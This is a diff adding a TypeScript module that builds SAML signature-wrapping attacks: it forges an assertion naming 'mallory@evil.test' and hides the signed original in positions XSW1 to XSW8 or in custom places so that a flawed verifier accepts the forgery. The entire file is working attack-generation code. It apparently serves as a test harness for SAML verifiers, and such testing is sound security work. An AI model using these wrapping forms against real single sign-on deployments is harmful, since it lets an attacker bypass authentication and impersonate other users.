@@ -1,0 +1,132 @@
+/**
+ * Signature wrapping (Somorovsky and others, "On Breaking SAML", USENIX Security 2012): a forged assertion is where a careless
+ * reader looks, the signed original is where the signature still finds it. XSW1 to XSW8 are named as SAML Raider names them.
+ */
+export interface Wrapping {
+  /** One of the named forms, or `hidden` with the places below. */
+  readonly form: 'xsw1' | 'xsw2' | 'xsw3' | 'xsw4' | 'xsw5' | 'xsw6' | 'xsw7' | 'xsw8' | 'hidden';
+  /** Where the original goes in a `hidden` form. */
+  readonly place?:
+    | 'extensions'
+    | 'status-detail'
+    | 'advice'
+    | 'attribute-value'
+    | 'conditions'
+    | 'issuer'
+    | 'name-id';
+  /** Where the signature stands in a `hidden` form. */
+  readonly signature?: 'original' | 'evil' | 'both';
+  /** The forged assertion keeps the original's ID. */
+  readonly keepsId?: boolean;
+}
+
+export const evilNameId = 'mallory@evil.test';
+
+interface Parts {
+  readonly response: string;
+  readonly assertion: string;
+  readonly signature: string;
+  readonly bare: string;
+  readonly evil: string;
+}
+
+export function wrapSignature(xml: string, wrapping: Wrapping): string {
+  if (wrapping.form === 'xsw1' || wrapping.form === 'xsw2') return wrapResponse(xml, wrapping.form);
+  const parts = takeParts(xml, wrapping.keepsId === true);
+  const withAssertion = (text: string): string => xml.replace(parts.assertion, () => text);
+  const evilSigned = insert(parts.evil, parts.signature);
+  switch (wrapping.form) {
+    case 'xsw3':
+      return withAssertion(parts.evil + parts.assertion);
+    case 'xsw4':
+      return withAssertion(
+        parts.evil.replace(/<\/saml:Assertion>$/, () => `${parts.assertion}</saml:Assertion>`),
+      );
+    case 'xsw5':
+      return withAssertion(evilSigned + parts.bare);
+    case 'xsw6':
+      return withAssertion(insert(parts.evil, intoSignature(parts.signature, parts.bare)));
+    case 'xsw7':
+      return withAssertion(parts.assertion).replace(
+        '<samlp:Status>',
+        () => `<samlp:Extensions>${parts.evil}</samlp:Extensions><samlp:Status>`,
+      );
+    case 'xsw8':
+      return withAssertion(
+        insert(parts.evil, intoSignature(parts.signature, `<ds:Object>${parts.bare}</ds:Object>`)),
+      );
+    case 'hidden':
+      return hideOriginal(xml, parts, wrapping);
+  }
+}
+
+function takeParts(xml: string, keepsId: boolean): Parts {
+  const assertion = find(xml, /<saml:Assertion[ >].*<\/saml:Assertion>/s);
+  const signature = find(assertion, /<ds:Signature[ >].*<\/ds:Signature>/s);
+  const bare = assertion.replace(signature, '');
+  return { response: xml, assertion, signature, bare, evil: forge(bare, keepsId) };
+}
+
+function forge(bare: string, keepsId: boolean): string {
+  const forged = bare.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${evilNameId}`);
+  return keepsId ? forged : forged.replace(/ ID="[^"]*"/, ' ID="_evil"');
+}
+
+function wrapResponse(xml: string, form: 'xsw1' | 'xsw2'): string {
+  const signature = find(xml, /<ds:Signature[ >].*?<\/ds:Signature>/s);
+  const bare = xml.replace(signature, '');
+  const evil = bare
+    .replace(/ ID="[^"]*"/, ' ID="_evil-response"')
+    .replace(/(<saml:Assertion[^>]*) ID="[^"]*"/, '$1 ID="_evil"')
+    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${evilNameId}`);
+  return form === 'xsw1'
+    ? insert(evil, intoSignature(signature, `<ds:Object>${bare}</ds:Object>`))
+    : insert(evil, bare + signature);
+}
+
+function hideOriginal(xml: string, parts: Parts, wrapping: Wrapping): string {
+  const { signature = 'original', place = 'extensions' } = wrapping;
+  const original = signature === 'evil' ? parts.bare : parts.assertion;
+  const evil = signature === 'original' ? parts.evil : insert(parts.evil, parts.signature);
+  const { isInEvil, before, wrap } = places[place];
+  const hide = (text: string): string => text.replace(before, () => wrap(original) + before);
+  return isInEvil
+    ? xml.replace(parts.assertion, () => hide(evil))
+    : hide(xml.replace(parts.assertion, () => evil));
+}
+
+interface Place {
+  /** In the forged assertion, or in the Response around it. */
+  readonly isInEvil: boolean;
+  readonly before: string;
+  readonly wrap: (original: string) => string;
+}
+
+const as =
+  (name: string) =>
+  (original: string): string =>
+    `<${name}>${original}</${name}>`;
+
+const places: Readonly<Record<NonNullable<Wrapping['place']>, Place>> = {
+  extensions: { isInEvil: false, before: '<samlp:Status>', wrap: as('samlp:Extensions') },
+  'status-detail': { isInEvil: false, before: '</samlp:Status>', wrap: as('samlp:StatusDetail') },
+  issuer: { isInEvil: false, before: '</saml:Issuer>', wrap: (original) => original },
+  advice: { isInEvil: true, before: '<saml:AuthnStatement', wrap: as('saml:Advice') },
+  'attribute-value': { isInEvil: true, before: '</saml:AttributeValue>', wrap: (original) => original },
+  conditions: { isInEvil: true, before: '</saml:Conditions>', wrap: (original) => original },
+  'name-id': { isInEvil: true, before: '</saml:NameID>', wrap: (original) => original },
+};
+
+function insert(element: string, child: string): string {
+  return element.replace('</saml:Issuer>', () => `</saml:Issuer>${child}`);
+}
+
+function intoSignature(signature: string, child: string): string {
+  return signature.replace(/<\/ds:Signature>$/, () => `${child}</ds:Signature>`);
+}
+
+function find(text: string, pattern: RegExp): string {
+  const found = pattern.exec(text)?.[0];
+  if (found === undefined) throw new Error(`The response to wrap has no ${pattern.source}.`);
+  return found;
+}
